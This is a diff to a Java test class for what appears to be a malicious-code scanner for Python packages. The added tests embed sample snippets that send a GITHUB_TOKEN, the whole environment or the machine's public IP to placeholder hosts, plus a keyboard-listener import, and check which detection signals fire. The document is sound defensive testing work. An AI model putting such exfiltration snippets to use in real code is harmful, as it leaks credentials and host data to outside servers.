@@ -85,6 +85,10 @@ class CodeScanTest {
                 .contains(Signal.MIXED_SCRIPTS)
                 .doesNotContain(Signal.CONFUSABLE);
         assertThat(CodeScore.of(List.of(typed)).fires()).isFalse();
+        assertThat(scan(CodeRole.MODULE, "import os\nd\u2113d\u03bb = os.system('')\n")
+                        .findings())
+                .extracting(CodeFinding::kind)
+                .doesNotContain(Signal.CONFUSABLE);
         assertThat(scan(CodeRole.MODULE, "from os import path\nfrom r\u0435quests import get\nget('')\n")
                         .findings())
                 .extracting(CodeFinding::kind)
@@ -123,6 +127,48 @@ class CodeScanTest {
         assertThat(scan(CodeRole.PACKAGE, both).findings())
                 .extracting(CodeFinding::kind)
                 .contains(Signal.FILE_SENT);
+    }
+
+    @Test
+    void aTokenInTheHeadOfARequestIsWhereItBelongs() {
+        String asks = """
+                import os
+                from urllib.request import Request, urlopen
+                urlopen(Request("https://api.example/", %s))
+                """;
+        assertThat(scan(CodeRole.PACKAGE, asks.formatted("headers={'Authorization': os.environ['GITHUB_TOKEN']}"))
+                        .findings())
+                .extracting(CodeFinding::kind)
+                .doesNotContain(Signal.VARIABLE_SENT);
+        for (String sent : List.of("os.environ['GITHUB_TOKEN'].encode()", "data=os.environ['GITHUB_TOKEN'].encode()")) {
+            assertThat(scan(CodeRole.PACKAGE, asks.formatted(sent)).findings())
+                    .as(sent)
+                    .extracting(CodeFinding::kind)
+                    .contains(Signal.VARIABLE_SENT);
+        }
+        assertThat(scan(CodeRole.PACKAGE, asks.formatted("headers=dict(os.environ)"))
+                        .findings())
+                .extracting(CodeFinding::kind)
+                .contains(Signal.ENVIRONMENT_SENT);
+    }
+
+    @Test
+    void theMachinesOwnAddressIsAskedForAndSentOn() {
+        String asks = "import requests\nip = requests.get('https://api.ipify.org').text\n";
+        assertThat(scan(CodeRole.PACKAGE, asks).findings())
+                .extracting(CodeFinding::kind)
+                .doesNotContain(Signal.ODD_HOST, Signal.HOST_SENT);
+        assertThat(scan(CodeRole.PACKAGE, asks + "requests.post('https://files.example/', data=ip)\n")
+                        .findings())
+                .extracting(CodeFinding::kind)
+                .contains(Signal.HOST_SENT);
+    }
+
+    @Test
+    void aLibraryThatIsImportedWatchesNothingYet() {
+        assertThat(scan(CodeRole.PACKAGE, "from pynput import keyboard\n").findings())
+                .extracting(CodeFinding::kind)
+                .doesNotContain(Signal.KEYS_WATCHED);
     }
 
     @Test
